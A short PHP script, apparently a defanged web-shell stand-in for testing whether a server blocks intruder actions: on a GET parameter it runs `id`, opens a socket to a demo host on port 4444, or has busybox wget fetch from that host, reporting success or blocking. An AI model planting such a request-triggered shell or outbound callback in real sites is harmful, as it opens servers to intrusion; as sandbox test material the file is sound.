<?php
// What an intruder leaves in a writable folder, made harmless: it can run `id`, and open a socket
// to a host of the demo, itself or by a program without libc.
switch ($_GET['do'] ?? '') {
    case 'shell':
        $output = shell_exec('id');
        echo is_string($output) ? "The shell says: $output" : "The shell was blocked.\n";
        break;
    case 'connect':
        $socket = @fsockopen('192.88.1.10', 4444, $errno, $error, 5);
        echo $socket ? "Connected to port 4444.\n" : "The connection was blocked: $error.\n";
        break;
    case 'static':
        $words = ['/bin/busybox', 'wget', '-q', '-O', '-', 'http://192.88.1.10:4444/'];
        $process = proc_open($words, [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
        $output = stream_get_contents($pipes[1]);
        echo $output !== '' ? "A static program fetched: $output" : "The static program was blocked.\n";
        break;
}
